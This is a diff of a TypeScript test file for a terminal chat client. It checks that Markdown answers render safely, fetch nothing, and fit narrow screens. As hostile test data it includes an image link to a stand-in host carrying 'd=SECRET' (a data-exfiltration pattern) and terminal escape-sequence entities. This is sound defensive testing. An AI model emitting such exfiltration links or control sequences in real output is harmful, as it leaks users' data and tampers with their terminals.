@@ -1,15 +1,20 @@
 import { createServer, type Server } from 'node:http'
 import type { AddressInfo } from 'node:net'
+import stringWidth from 'string-width'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { Conversation } from '../../src/kchat/chat/conversation.js'
 import { linesOf } from '../../src/kchat/chat/lines.js'
 import { FRAME_MS } from '../../src/kchat/chat/paced.js'
-import { statusOf } from '../../src/kchat/chat/view.js'
+import { statusOf } from '../../src/kchat/chat/screen.js'
+import { Transcript } from '../../src/kchat/chat/transcript.js'
 import { ChatService } from '../../src/kchat/service.js'
 
 const EVENTS = 1000
 let server: Server
 let url = ''
+
+/** A line without its looks, which are ours. */
+const plain = (line: string) => line.replace(/\u001b\[[\d;]*m/g, '')
 
 /** Answers a message with all its events in one burst. */
 beforeAll(async () => {
@@ -70,15 +75,116 @@ describe('what others wrote', () => {
   it('is inert where the application and its tools are named', () => {
     const chat = new ChatService({ url, token: 'app-x' }, { user: 'me' })
     const state = new Conversation(chat, {}).state()
-    const shown = statusOf({ ...state, name: HOSTILE, activity: HOSTILE, phase: 'answering' }, 0, false)
+    const shown = statusOf({ ...state, name: HOSTILE, activity: HOSTILE, phase: 'answering' }, { search: undefined })
     expect(shown).not.toMatch(UNSAFE)
     expect(shown).toContain('click')
     chat.close()
   })
 
-  it('is shown as it stands where it is an image of elsewhere: nothing is fetched', () => {
+  it('shows the address of an image or a link, and fetches nothing; definitions stand as they are', () => {
     const text = '![x](https://evil.test/?d=SECRET) [a][1]\n\n[1]: https://evil.test/?d=SECRET'
-    const lines = linesOf({ kind: 'answer', text }, 80).map((line) => line.text)
-    expect(lines.slice(0, 3)).toEqual(text.split('\n'))
+    const lines = linesOf({ kind: 'answer', text }, 80).map((line) => plain(line.text))
+    expect(lines).toEqual([
+      '[image: x] (https://evil.test/?d=SECRET) [a][1]',
+      '',
+      '[1]: https://evil.test/?d=SECRET',
+      '',
+    ])
+  })
+
+  it('is inert in tables, code, addresses and entities of Markdown, whole or growing', () => {
+    const text = `| ${HOSTILE} | b |\n|---|---|\n| &#27;[2J | &#x9b;31m |\n\n\`\`\`${HOSTILE}\n${HOSTILE}\n\`\`\`\n\n[a](<https://evil.test/&#27;x>) <b>${HOSTILE}</b>\n`
+    const transcript = new Transcript()
+    const shown = [...text].flatMap((_, at) => [
+      ...transcript.follow([{ kind: 'answer', text: text.slice(0, at), isGrowing: true }], 40),
+    ])
+    shown.push(...transcript.follow([{ kind: 'answer', text }], 40), ...transcript.pieces.flatMap(({ lines }) => lines))
+    expect(shown.map((line) => plain(line.text)).join('\n')).toContain('https://evil.test/')
+    for (const line of shown) expect(plain(line.text)).not.toMatch(UNSAFE)
+  })
+})
+
+describe('a transcript', () => {
+  const MARKDOWN = [
+    '# Hours of the *shop*',
+    '',
+    'It **opens** at nine [1],',
+    'as `hours.md` says.',
+    '',
+    '- one',
+    '- two is longer',
+    '  - below it',
+    '',
+    '7. seven',
+    '8. eight',
+    '',
+    '```js',
+    'const a = 1',
+    '',
+    '- no list',
+    '```',
+    '',
+    '| Day | Opens |',
+    '|---|---:|',
+    '| Monday | 9 |',
+    '| 火曜日 | 10 |',
+    '',
+    '> said',
+    '> before',
+    'Done.',
+  ].join('\n')
+
+  it('writes an answer that grows in parts that never change, and in the end the lines of the whole', () => {
+    const whole = linesOf({ kind: 'answer', text: MARKDOWN }, 60)
+    for (const step of [1, 3, 7, 50]) {
+      const transcript = new Transcript()
+      let before: unknown[] = []
+      for (let at = 0; at < MARKDOWN.length; at += step) {
+        transcript.follow([{ kind: 'answer', text: MARKDOWN.slice(0, at), isGrowing: true }], 60)
+        expect(transcript.pieces.slice(0, before.length)).toEqual(before)
+        before = [...transcript.pieces]
+      }
+      if (step === 1) expect(before.length).toBeGreaterThan(5)
+      expect(transcript.follow([{ kind: 'answer', text: MARKDOWN }], 60)).toEqual([])
+      expect(transcript.pieces.flatMap(({ lines }) => lines)).toEqual(whole)
+    }
+  })
+
+  it('says that an answer was replaced, keeps what follows it in order, and fits narrow terminals', () => {
+    const transcript = new Transcript()
+    const growing = { kind: 'answer', isGrowing: true } as const
+    transcript.follow([{ ...growing, text: 'one\n\ntwo' }], 30)
+    const open = transcript.follow(
+      [
+        { ...growing, text: 'other' },
+        { kind: 'note', text: 'a note' },
+      ],
+      30,
+    )
+    expect(open.map((line) => line.text)).toEqual(['other', 'a note', ''])
+    transcript.follow(
+      [
+        { kind: 'answer', text: 'other' },
+        { kind: 'note', text: 'a note' },
+      ],
+      30,
+    )
+    const written = transcript.pieces.flatMap(({ lines }) => lines.map((line) => line.text))
+    expect(written).toEqual(['one', '', '(the service replaced this answer)', '', 'other', '', 'a note', ''])
+    const narrow = linesOf({ kind: 'answer', text: MARKDOWN }, 20).map((line) => stringWidth(line.text))
+    expect(Math.max(...narrow)).toBeLessThanOrEqual(20)
+  })
+
+  it('folds the steps of an agent, and tells tokens, price and time', () => {
+    const step = { id: 'a', thought: '', tool: 'search;read', input: '{}', observation: 'found' }
+    const usage = { tokens: 1204, price: '0.0031', currency: 'USD', seconds: 2.44 }
+    const lines = linesOf({ kind: 'answer', text: 'Nine.', steps: [step, { ...step, id: 'b' }], usage }, 80)
+    expect(lines.map((line) => line.text.replace('▸', '>'))).toEqual([
+      'Nine.',
+      '',
+      '> 2 steps: search, read (/steps shows them)',
+      '1,204 tokens · 0.0031 USD · 2.4 s',
+      '',
+    ])
   })
 })
